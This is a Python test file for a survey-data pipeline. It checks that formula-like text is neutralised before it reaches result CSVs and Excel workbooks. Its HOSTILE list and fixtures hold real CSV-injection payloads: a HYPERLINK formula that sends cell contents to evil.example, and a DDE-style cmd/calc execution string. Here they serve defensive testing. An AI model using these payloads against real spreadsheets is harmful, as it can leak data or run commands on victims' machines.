"""No cell of a results CSV or workbook runs as a formula in a spreadsheet (OWASP CSV injection),
whatever a respondent typed or a registry holds; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace

import pandas as pd
import pytest
from fixtures.clean import (
    QUESTIONNAIRE,
    REGISTRY_CSV,
    SECRET,
    fieldwork,
    ingest,
    lime_response,
    write_limesurvey,
)
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from borgingsmonitor.clean.steps import clean
from borgingsmonitor.core.tables import FORMULA_START, neutralise_cell, neutralise_frame, write_table
from borgingsmonitor.report.spreadsheets import write_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "=1+2",
    "\t=1+2",
    "\r=1+2",
    "-cmd",
]
NUMBERS = ["-1.5", "+3", "-2,5", "-0", "-1e5", "12", "-.5"]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_gets_a_leading_quote(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("text", NUMBERS + ["prima", "", "'=already", "a=b"])
def test_numbers_and_harmless_text_stay_as_they_are(text):
    assert neutralise_cell(text) == text


@pytest.mark.parametrize("value", [None, -1.5, 3, True, pd.NA])
def test_non_text_values_stay_as_they_are(value):
    assert neutralise_cell(value) is value


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return text.strip() == text


@given(st.text())
@settings(max_examples=500)
def test_no_neutralised_cell_starts_a_formula_and_nothing_is_lost(text):
    out = neutralise_cell(text)
    assert out in (text, "'" + text)
    assert not out.startswith(FORMULA_START) or _is_number(out)
    assert neutralise_cell(out) == out


@given(st.sampled_from(FORMULA_START), st.text())
def test_a_formula_start_followed_by_anything_but_a_number_is_neutralised(start, rest):
    text = start + rest
    assert neutralise_cell(text).startswith("'") or _is_number(text)


def test_write_table_neutralises_text_and_keeps_numbers(tmp_path):
    frame = pd.DataFrame(
        {
            "group": pd.array(["=1+2", "HEL-01", "@x"], dtype="string"),
            "value": ["-2+3", "-1.5", "\tx"],
            "mean": [-1.5, 2.0, float("nan")],
            "suppressed": [False, True, False],
        }
    )
    write_table(frame, tmp_path / "t.csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "t.csv").read_text(encoding="utf-8"))))
    assert rows[1:] == [
        ["'=1+2", "'-2+3", "-1.5", "false"],
        ["HEL-01", "-1.5", "2", "true"],
        ["'@x", "'\tx", "", "false"],
    ]


def test_neutralise_frame_leaves_the_original_alone():
    frame = pd.DataFrame({"a": ["=1"], "b": pd.Categorical(["+x"])})
    out = neutralise_frame(frame)
    assert out.loc[0, "a"] == "'=1" and out.loc[0, "b"] == "'+x" and frame.loc[0, "a"] == "=1"


def _cells(path):
    return [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))) for cell in row]


def test_hostile_answers_and_registry_names_reach_no_output_as_formulas(tmp_path, monkeypatch):
    """Hostile text in every free-text field (the comment, a number typed as text, the partnership
    answer and the registry's name) through ingestion and cleaning to qc/*.csv and a workbook."""
    folder = tmp_path / "input"
    registry = folder / "registry" / "partnerships.csv"
    registry.parent.mkdir(parents=True)
    registry.write_text(REGISTRY_CSV.replace("Route Zorg Deurne", '"=HYPERLINK(""http://evil"")"'), encoding="utf-8")
    relative = "helmond/2024/results-survey444444.csv"
    ok = "2024-03-20 10:00:00"
    rows = [
        lime_response(f"tok{i}", "Route ICT Helmond", ok, seed=i, comment=text, hours=text)
        for i, text in enumerate(HOSTILE)
    ]
    rows.append(lime_response("tokZ", '=HYPERLINK("http://evil")', ok, seed=99))
    rows.append(lime_response("tokY", "@SUM(1+1)*cmd|' /C calc'!A0", ok, seed=98))
    write_limesurvey(folder / relative, rows)
    monkeypatch.setenv("BORGING_SECRET", SECRET)
    table, issues = ingest(folder, "helmond", relative, 2024, registry, unknown_labels="missing")
    table.to_parquet(tmp_path / "harmonised.parquet", index=False)
    issues.to_csv(tmp_path / "issues.csv", index=False)
    tables = ("exclusions", "attrition", "value_issues", "unmapped_columns")
    output = SimpleNamespace(**{k: tmp_path / f"{k}.csv" for k in tables}, responses=tmp_path / "responses.parquet")
    inputs = SimpleNamespace(
        harmonised=tmp_path / "harmonised.parquet",
        issues=tmp_path / "issues.csv",
        registry=registry,
        questionnaire=QUESTIONNAIRE,
        manifests=[],
    )
    params = SimpleNamespace(regions={"helmond": {"fieldwork": fieldwork()["helmond"]}}, cleaning={})
    clean(inputs, output, params)
    values = pd.read_csv(output.value_issues, dtype=str, keep_default_na=False)["value"]
    assert any(v.startswith("'") for v in values), "the hostile numbers should be listed as value issues"
    for name in ("exclusions", "attrition", "value_issues"):
        cells = _cells(getattr(output, name))
        assert not [c for c in cells if c.startswith(FORMULA_START) and not _is_number(c)], name
    responses = pd.read_parquet(output.responses)
    assert responses["comment"].dropna().str.startswith(FORMULA_START).any(), "the clean data keeps what was typed"
    write_workbook({"responses": responses, "value_issues": pd.read_csv(output.value_issues)}, tmp_path / "r.xlsx")
    book = load_workbook(tmp_path / "r.xlsx")
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert not [
        c.value
        for c in cells
        if isinstance(c.value, str) and c.value.startswith(FORMULA_START) and not _is_number(c.value)
    ]


CELLS = st.one_of(
    st.sampled_from(["=1+1", "-1.5", "+3", "@sum", "\tx", "-2,5", "plain", "", "Docent", "=A1"]),
    st.text(max_size=6),
    st.sampled_from([None, float("nan"), pd.NA, 1, 1.0, True, -2]),
)


def _typed_cells(series: pd.Series) -> list:
    return [(type(v), repr(v)) for v in series]


@settings(max_examples=80, deadline=None)
@given(
    st.lists(
        st.one_of(st.sampled_from(["plain", "=x", "-1", "@a"]), st.sampled_from([None, float("nan")])), max_size=30
    ),
    st.lists(CELLS, max_size=30),
    st.sampled_from(["object", "string", "category"]),
)
def test_neutralise_frame_is_the_cell_by_cell_map(texts, mixed, dtype):
    """Text columns are neutralised once per distinct text: the same cells, types and missing values as
    mapping `neutralise_cell` over every cell."""
    frame = pd.DataFrame({"texts": pd.Series(texts, dtype=object), "mixed": pd.Series(mixed, dtype=object)})
    if dtype != "object":
        frame["texts"] = frame["texts"].astype(dtype)
    out = neutralise_frame(frame)
    for column in frame.columns:
        plain = frame[column].astype(object).map(neutralise_cell)
        assert out[column].dtype == plain.dtype
        assert _typed_cells(out[column]) == _typed_cells(plain)
